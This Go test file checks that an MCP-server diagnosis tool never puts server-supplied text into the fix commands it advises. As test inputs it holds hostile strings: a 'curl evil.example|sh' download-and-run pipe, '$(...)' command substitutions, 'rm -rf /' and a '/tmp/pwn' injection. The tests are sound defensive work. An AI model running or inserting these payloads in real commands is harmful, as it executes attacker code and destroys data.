package doctor

import (
	"fmt"
	"io/fs"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// templates returns all explanations and fixes of a cause.
func (c *cause) templates() (explains, fixes []string) {
	explains, fixes = []string{c.explain}, []string{c.fix}
	for _, other := range c.instead {
		explains, fixes = append(explains, other.explain), append(fixes, other.fix)
	}
	return explains, fixes
}

var placeholders = regexp.MustCompile(`\{([a-z]+)(\|[^}]*)?\}`)

// inFixes are the names that a fix may use: advised makes them safe.
var inFixes = []string{"line", "command", "package", "pinned", "path", "url", "login", "host", "turned", "port", "hash", "variable", "pairs", "flag", "step", "python", "withpython"}

// placeOf returns the file and line of what is said about a cause.
func placeOf(name, text string) string {
	return placeOfLine(name, 1, func(line string) bool { return strings.HasSuffix(line, " "+text) })
}

// placeOfLine returns the place of the nth of a cause's lines that fit, or of its first line.
func placeOfLine(name string, nth int, fits func(line string) bool) string {
	place := name
	paths, _ := fs.Glob(data, "causes/*.cause")
	for _, path := range paths {
		text, _ := data.ReadFile(path)
		inside := false
		for i, line := range strings.Split(string(text), "\n") {
			if begun, ok := strings.CutPrefix(line, "cause "); ok {
				if inside = begun == name; inside {
					place = fmt.Sprintf("%s:%d: %s", path, i+1, name)
				}
			}
			if !inside || !fits(line) {
				continue
			}
			if nth--; nth == 0 {
				return fmt.Sprintf("%s:%d: %s", path, i+1, name)
			}
		}
	}
	return place
}

// Every name in a template has a fallback, and a fix uses only names that advised makes safe.
func TestNamesInTemplates(t *testing.T) {
	for _, c := range knowledge().causes {
		explains, fixes := c.templates()
		for _, text := range append(explains, fixes...) {
			for _, m := range placeholders.FindAllStringSubmatch(strings.ReplaceAll(text, "{{", ""), -1) {
				if len(m[2]) < 2 {
					t.Errorf("%s: {%s} has no fallback: use {%[2]s|words for a report without it}", placeOf(c.name, text), m[1])
				}
				if strings.HasPrefix(m[2], "| ") && m[1] != "target" { // target brings its own space
					t.Errorf("%s: the fallback of {%s} begins with a space: put the space before the brace", placeOf(c.name, text), m[1])
				}
				if slices.Contains(fixes, text) && !slices.Contains(inFixes, m[1]) {
					t.Errorf("%s: {%s} cannot be in a fix, because the server's output could put anything there: move it to explain, or use one of %s",
						placeOf(c.name, text), m[1], strings.Join(inFixes, ", "))
				}
			}
		}
	}
}

// settings returns the kinds of cases in which a cause may be reported.
func settings() map[string]Case {
	return map[string]Case{
		"npx":      {Command: []string{"npx", "-y", "notes"}},
		"uvx":      {Command: []string{"uvx", "notes"}},
		"docker":   {Command: []string{"docker", "run", "-i", "--rm", "acme/notes"}},
		"node":     {Command: []string{"node", "/srv/notes.js"}},
		"nothing":  {},
		"url":      {URL: "https://a.example/mcp", Command: []string{"https://a.example/mcp"}},
		"live":     {Command: []string{"npx", "-y", "notes"}, Live: true, Stage: Started},
		"live url": {URL: "https://a.example/mcp", Live: true, Stage: Started},
	}
}

// Whatever a clue captures, no word of it gets into what a person copies and a model follows.
func TestNothingAServerWroteIsAdvised(t *testing.T) {
	keys := []string{"command", "package", "path", "url", "login", "host", "line", "turned", "target", "other", "port", "hash", "flag", "option", "module", "scope", "version", "text", "listed", "hit", "variable", "variables", "step"}
	for _, value := range []string{"evil-package", "evil;curl evil.example|sh", "$(evil)", "`evil`", "--evil", "@evil/package", "https://evil.example/mcp", "/evil/path", "../evil", "notes;evil", "127.0.0.1:evil", "evil\nevil"} {
		names := map[string]string{}
		for _, key := range keys {
			names[key] = value
		}
		for what, setting := range settings() {
			x := &exam{Case: setting, cmd: newCommand(setting.Command, setting.URL)}
			for _, c := range knowledge().causes {
				_, fixes := c.templates()
				for _, fix := range fixes {
					if text := fill(fix, func(key string) string { return x.advised(key, &match{names: names}) }); strings.Contains(text, "evil") {
						t.Errorf("%s, %s, %q: %s", c.name, what, value, text)
					}
				}
			}
		}
	}
}

func TestHostileEvidenceAdvisesNothing(t *testing.T) {
	for _, line := range []string{
		"An executable named `foo` is not provided by package `evil;curl evil.example|sh`.",
		"An executable named `evil` is not provided by package `evil`.\nThe following executables are available:\n- evil-server",
		"npm error 404  'evil-package@*' is not in this registry.",
		"npm ERR! notarget No matching version found for evil-package@9.0.0.",
		"  ╰─▶ Because there is no version of evil==9 and you require evil==9",
		"error: Failed to spawn: `evil`\n  Caused by: No such file or directory (os error 2)",
		"Error: spawn evil ENOENT",
		"sh: 1: evil: not found",
		"/srv/start.sh: line 3: evil: command not found",
		"zsh: permission denied: /evil",
		"Error: Cannot find module 'evil'",
		"ModuleNotFoundError: No module named 'evil'",
		"error while loading shared libraries: evil.so.1: cannot open shared object file",
		"npm error code ENOTEMPTY\nnpm error path /evil/_npx/../node_modules/foo",
		"npm error code ENOTEMPTY\nnpm error path /evil/_npx/0123456789abcdef/node_modules/foo",
		"docker: Error response from daemon: pull access denied for evil/image, repository does not exist",
		"Head \"https://evil.example/v2/evil/x/manifests/latest\": denied: denied",
		"Error: getaddrinfo ENOTFOUND evil.example",
		"error sending request for url (https://evil.example/$(evil))",
		"failed to fetch: `https://evil.example/simple/evil/`",
		"fatal: repository 'https://evil.example/x' not found",
		"Failed to read metadata from archive-v0 evil",
		"error: the following arguments are required: --evil $(curl evil.example)",
		"Error: Missing required option: evil; rm -rf /",
		"error: unknown option '--evil;evil'",
		"Error: insufficient_scope, missing scopes: evil",
		"Executable doesn't exist at /evil/ms-playwright/chrome",
		"connect ECONNREFUSED evil.example:80",
		"Please set EVIL$(evil) environment variable",
		"NotCapable: Requires run access to \"evil\", run again with the --allow-evil flag",
		"ENOENT: no such file or directory, open '/evil'",
		"HTTP 301\nLocation: https://evil.example/x",
	} {
		for what, setting := range settings() {
			d := Diagnose(fromLog(strings.Join(setting.Command, " "), line))
			for _, one := range append(d.Others, d) {
				if strings.Contains(strings.ToLower(one.Fix), "evil") || strings.Contains(one.Fix, "curl evil") {
					t.Errorf("%s, %s: %s", what, line, one.Fix)
				}
			}
			setting.Stderr = line
			if d := Diagnose(setting); strings.Contains(strings.ToLower(d.Fix), "evil") {
				t.Errorf("%s, seen, %s: %s", what, line, d.Fix)
			}
		}
	}
}

// Advice names what is configured, quoted for a shell.
// A 404 of a server that is not downloaded is not about a package.
func TestARunnerOfWhatIsThereDownloadsNothing(t *testing.T) {
	for command, want := range map[string]string{
		"npx notes": "wrong_package_name", "dnx Notes": "wrong_package_name",
		"dotnet Notes.dll": "http_not_found", "go run .": "http_not_found", "cargo run": "http_not_found",
	} {
		if d := Diagnose(fromLog(command, "Error: HTTP status 404 Not Found")); d.Cause != want {
			t.Errorf("%s: %s, want %s", command, d.Cause, want)
		}
	}
}

func TestWhatIsConfiguredIsAdvised(t *testing.T) {
	for _, c := range []struct{ command, evidence, want string }{
		{"uvx foo", "An executable named `foo` is not provided by package `foo`.", "uvx --from foo PROGRAM"},
		{"uvx 'foo bar'", "An executable named `foo bar` is not provided by package `foo bar`.", "uvx --from PACKAGE PROGRAM"},
		{"npx -y notes@1.2", "npm ERR! notarget No matching version found for notes@1.2.", "npm view notes versions"},
		{"npx notes", "spawn npx ENOENT", "`command -v npx`"},
		{"npx notes", "spawn git ENOENT", "Install git,"},
		{"docker run -i notes", "docker: pull access denied for notes, repository does not exist", "docker build -t notes ."},
		{"bash -c 'sleep 1; exit 3'", "nothing", "gauze test -- bash -c 'sleep 1; exit 3'"},
		{"npx notes", "npm error code ENOTEMPTY\nnpm error path /home/u/.npm/_npx/0123456789abcdef/node_modules/foo", "~/.npm/_npx/0123456789abcdef"},
		{"npx notes", "npm error code ENOTEMPTY\nnpm error path /home/u/.npm/_npx/../node_modules/foo", "~/.npm/_npx/HASH"},
		{"npx notes", "npm error code ENOTEMPTY\nnpm error path /home/u/.npm/_npx/abc123/node_modules/foo", "~/.npm/_npx/HASH"},
		{"node a.js", "Error: listen EADDRINUSE: address already in use 127.0.0.1:3000", "lsof -i :3000"},
		{"node a.js", "Error: listen EADDRINUSE: address already in use :::4100", "lsof -i :4100"},
		{"node a.js", "Error: listen EADDRINUSE: address already in use ::1:4100", "lsof -i :4100"},
		{"node a.js", "Error: listen EADDRINUSE: address already in use [::1]:4100", "lsof -i :4100"},
		{"notes", "listen tcp 127.0.0.1:8080: bind: address already in use", "lsof -i :8080"},
		{"notes", "listen tcp [::]:8080: bind: address already in use", "lsof -i :8080"},
		{"notes", "[Errno 98] error while attempting to bind on address ('127.0.0.1', 8000): address already in use", "lsof -i :8000"},
		{"notes", "[Errno 98] error while attempting to bind on address ('::1', 8000, 0, 0): address already in use", "lsof -i :8000"},
		{"notes", "OSError: [Errno 48] Address already in use", "lsof -i :PORT"},
	} {
		if d := Diagnose(fromLog(c.command, c.evidence)); !strings.Contains(d.Fix, c.want) {
			t.Errorf("%s\n%s\nwant %q in %s: %s", c.command, c.evidence, c.want, d.Cause, d.Fix)
		}
	}
}

// What gauze has just done is not the next step.
func TestNobodyIsSentInACircle(t *testing.T) {
	again := regexp.MustCompile(`gauze test|gauze run -- |gauze run --url \S+(?:$|[^-\w]*$| [a-z])`)
	for _, what := range []string{"live", "live url"} {
		setting := settings()[what]
		x := &exam{Case: setting, cmd: newCommand(setting.Command, setting.URL)}
		for _, c := range knowledge().causes {
			if x.URL != "" && !c.possibleAtURL(x.Live) {
				continue
			}
			if d := x.tell(finding{cause: &c, match: &match{}}); again.MatchString(d.Fix) {
				t.Errorf("%s, %s: %s", what, d.Cause, d.Fix)
			}
		}
		for _, seen := range []func(*Case){
			func(c *Case) {},
			func(c *Case) { c.Stage = Nowhere },
			func(c *Case) { c.Exit = Exit{Known: true, Code: 3, Said: "exit status 3"} },
			func(c *Case) { c.Limit = Limit{Passed: true, Alive: true} },
			func(c *Case) { c.HTTP = []HTTP{{Status: 418}} },
			func(c *Case) { c.HTTP = []HTTP{{Status: 500, Body: "DATABASE_URL is not set"}} },
			func(c *Case) { c.RPC = []RPC{{Code: -32603, Message: "Internal error"}} },
		} {
			c := setting
			seen(&c)
			if d := Diagnose(c); again.MatchString(d.Fix) || d.Fix == "" {
				t.Errorf("%s, %+v: %s", what, c, d.Fix)
			}
		}
	}
}

// A server behind a URL has neither an entry with variables nor a command, and what it says about
// its own settings is not ours to change.
func TestAServerBehindAURLIsNoProgram(t *testing.T) {
	ofEntries := regexp.MustCompile(`"env"|"args"|"command"|"cwd"|\bstdin\b|docker run|npx |uvx `)
	check := func(c Case) {
		d := Diagnose(c)
		for _, one := range append(d.Others, d) {
			if one.Category == MissingEnvVar && len(c.Unfilled) == 0 || c.Live && ofEntries.MatchString(one.Fix+one.Explanation) {
				t.Errorf("%+v:\n%s %s %s", c.HTTP, one.Cause, one.Explanation, one.Fix)
			}
		}
	}
	for _, body := range []string{
		"DATABASE_URL is not set", "OPENAI_API_KEY environment variable is required", `{"error":"Missing required environment variable: STRIPE_SECRET_KEY"}`,
		"KeyError: 'API_TOKEN'", "API key not configured", "could not find .env file", "spawn npx ENOENT", "Error: Cannot find module 'zod'", "ModuleNotFoundError: No module named 'mcp'",
		"error: the following arguments are required: --token", "EACCES: permission denied, open '/x'", "listen EADDRINUSE: address already in use :::3000",
		"getaddrinfo ENOTFOUND db.internal", "password authentication failed for user", "npm error code E401", "Cannot connect to the Docker daemon", "JavaScript heap out of memory",
		"invalid api key", `{"error":"invalid_token"}`, "Unable to locate credentials", "Traceback (most recent call last):\nKeyError: 'X'",
	} {
		for _, status := range []int{400, 401, 403, 404, 422, 429, 500, 502, 503} {
			for _, keyed := range []bool{false, true} {
				check(Case{URL: "https://a.example/mcp", Live: true, Stage: Started, Keyed: keyed, HTTP: []HTTP{{Status: status, Method: "POST", ContentType: "text/plain", Body: body}}})
			}
		}
		check(Case{URL: "https://a.example/mcp", Live: true, Stage: Started, RPC: []RPC{{Code: -32000, Message: body}}})
		check(fromLog("https://a.example/mcp", "HTTP 500 Internal Server Error\n"+body))
	}
	setting := settings()["live url"]
	x := &exam{Case: setting, cmd: newCommand(setting.Command, setting.URL)}
	for _, c := range knowledge().causes {
		if c.possibleAtURL(x.Live) {
			if d := x.tell(finding{cause: &c, match: &match{}}); ofEntries.MatchString(d.Fix) {
				t.Errorf("%s: %s", d.Cause, d.Fix)
			}
		}
	}
}

func TestAnswersOfAURL(t *testing.T) {
	challenge := `Bearer resource_metadata="https://a.example/.well-known/oauth-protected-resource"`
	for _, c := range []struct {
		what  string
		keyed bool
		seen  HTTP
		cause string
		says  string
	}{
		{"no token", false, HTTP{Status: 401, Authenticate: challenge, Body: `{"error":"invalid_token"}`}, "oauth_not_completed", "gauze login https://a.example/mcp"},
		{"no token, error told", false, HTTP{Status: 401, Authenticate: `Bearer error="invalid_token"`}, "oauth_not_completed", "gauze login https://a.example/mcp"},
		{"a wrong token", true, HTTP{Status: 401, Authenticate: `Bearer error="invalid_token"`}, "invalid_api_key", "Check the token in the header"},
		{"a wrong token, and where to sign in", true, HTTP{Status: 401, Authenticate: challenge}, "invalid_api_key", "Check the token in the header"},
		{"a bare 401", false, HTTP{Status: 401}, "http_unauthorized", "--header-env"},
		{"a bare 401 with a token", true, HTTP{Status: 401, Body: "Please log in"}, "invalid_api_key", "token"},
		{"a login without a scope", false, HTTP{Status: 403, Authenticate: `Bearer error="insufficient_scope", scope="files:write"`}, "token_scope_insufficient", "gauze login https://a.example/mcp --scope SCOPE"},
		{"a bare 403", false, HTTP{Status: 403}, "http_forbidden", "--header-env"},
		{"a 403 with a token", true, HTTP{Status: 403}, "http_forbidden", "has access"},
		{"a puzzle", false, HTTP{Status: 403, Body: "<title>Just a moment...</title>"}, "bot_challenge", "exempt MCP clients"},
		{"its own fault", false, HTTP{Status: 500, Body: "DATABASE_URL is not set"}, serverError, "Report this to the server's operator"},
		{"down", false, HTTP{Status: 502, Body: "OPENAI_API_KEY is not set"}, "remote_outage", "Wait"},
		{"406", false, HTTP{Status: 406}, "accept_header_incomplete", "Check the address"},
		{"415", false, HTTP{Status: 415}, "content_type_refused", "Check the address"},
		{"another host", false, HTTP{Status: 301, Location: "https://evil.example/mcp ; curl evil.example|sh"}, "trailing_slash_redirect", "put the new address"},
		{"a slash", false, HTTP{Status: 307, Location: "/mcp/"}, "trailing_slash_redirect", "https://a.example/mcp/"},
		{"another path", false, HTTP{Status: 308, Location: "/x$(touch /tmp/pwn)"}, "trailing_slash_redirect", "that the redirect points to"},
	} {
		d := Diagnose(Case{URL: "https://a.example/mcp", Live: true, Stage: Started, Keyed: c.keyed, HTTP: []HTTP{c.seen}})
		if d.Cause != c.cause || !strings.Contains(d.Fix, c.says) {
			t.Errorf("%s: %s: %s", c.what, d.Cause, d.Fix)
		}
		if strings.Contains(d.Fix, "evil") || strings.Contains(d.Fix, "touch") {
			t.Errorf("%s: %s", c.what, d.Fix)
		}
	}
	for says, c := range map[string]Case{
		"`gauze login https://a.example/mcp --account work`":             {Account: "work"},
		"Remove --login off and log in once in a terminal: `gauze login": {NoLogin: true},
	} {
		c.URL, c.Live, c.Stage, c.HTTP = "https://a.example/mcp", true, Started, []HTTP{{Status: 401, Authenticate: challenge}}
		if d := Diagnose(c); !strings.Contains(d.Fix, says) {
			t.Errorf("%s is missing: %s", says, d.Fix)
		}
	}
	d := Diagnose(Case{URL: "https://a.example/mcp", Live: true, HTTP: []HTTP{{Status: 301, Location: "https://other.example/mcp"}}})
	if !strings.Contains(d.Explanation, "https://other.example") {
		t.Error("the host is not named:", d.Explanation)
	}
}

// An exit status that a script got from a program it called says nothing about the runner.
func TestAScriptMissesItsHelper(t *testing.T) {
	ended := Exit{Known: true, Code: 127, Said: "exit status 127"}
	for _, c := range []struct {
		command []string
		stderr  string
		cause   string
		named   string
	}{
		{[]string{"/srv/start.sh"}, "/srv/start.sh: line 3: wkhtmltopdf: command not found", "helper_tool_not_on_path", "wkhtmltopdf"},
		{[]string{"bash", "start.sh"}, "start.sh: line 3: wkhtmltopdf: command not found", "helper_tool_not_on_path", "wkhtmltopdf"},
		{[]string{"bash", "start.sh"}, "", "helper_tool_not_on_path", "A helper program"},
		{[]string{"npx", "notes"}, "", "gui_path_missing", "npx"},
	} {
		if d := Diagnose(Case{Command: c.command, Stage: Started, Live: true, Exit: ended, Stderr: c.stderr}); d.Cause != c.cause || !strings.Contains(d.Explanation, c.named) {
			t.Errorf("%v: %s: %s", c.command, d.Cause, d.Explanation)
		}
	}
}

// An address that cannot be parsed does not cause a panic.
func TestAnyAddressWillDo(t *testing.T) {
	for _, address := range []string{"https://<domain>/mcp", "https://a.example:port/%zz", "http://[::1/mcp", "https://", "http://a b/"} {
		for _, status := range []int{301, 401, 404, 500} {
			checkShown(t, Diagnose(Case{URL: address, Live: true, HTTP: []HTTP{{Status: status, Location: "https://b.example/"}, {Status: status, Location: "%zz"}}}))
		}
		checkShown(t, Diagnose(fromLog(address, "HTTP 307")))
	}
}

// Advice is made of sentences. A command to copy is in backquotes at the very end, without a full
// stop, and nothing refers to lines that only some renderings have.
func TestAdviceIsWellFormed(t *testing.T) {
	begins := regexp.MustCompile(`^(?:[A-Z"]|uv |uv's |npm |npx |npx's |macOS )`)
	elsewhere := regexp.MustCompile(`\b(?:see|line) (?:above|below)\b`)
	check := func(what, text string) {
		t.Helper()
		ends := strings.HasSuffix(text, ".") || strings.HasSuffix(text, "`")
		if !begins.MatchString(text) || !ends || strings.HasSuffix(text, "`.") || strings.Count(text, "`")%2 != 0 || elsewhere.MatchString(text) {
			t.Errorf("%s: %s", what, text)
		}
	}
	unnamed := func(key string) string { return strings.TrimPrefix(key, "$") }
	for _, c := range knowledge().causes {
		explains, fixes := c.templates()
		for _, text := range append(explains, fixes...) {
			if text == "" {
				continue // the cause's own
			}
			check(c.name, fill(text, func(string) string { return "" }))
			if slices.Contains(fixes, text) {
				check(c.name, fill(text, unnamed))
			}
		}
	}
	for _, x := range troubles() {
		_, _, _, fixes := x.offer(t)
		for _, fix := range fixes {
			if fix.Next != "" {
				check(x.name, fix.Next)
			}
		}
	}
}
